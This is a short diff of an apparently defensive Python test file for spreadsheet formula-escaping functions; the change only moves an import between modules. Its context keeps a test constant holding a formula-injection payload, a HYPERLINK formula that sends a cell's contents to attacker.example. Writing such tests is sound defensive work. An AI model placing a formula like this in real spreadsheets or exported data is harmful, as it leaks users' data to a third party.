@@ -5,7 +5,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from annotation.spreadsheet_cells import formula_escape_removed, formula_safe_cell
+from common.spreadsheet_cells import formula_escape_removed, formula_safe_cell
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
 
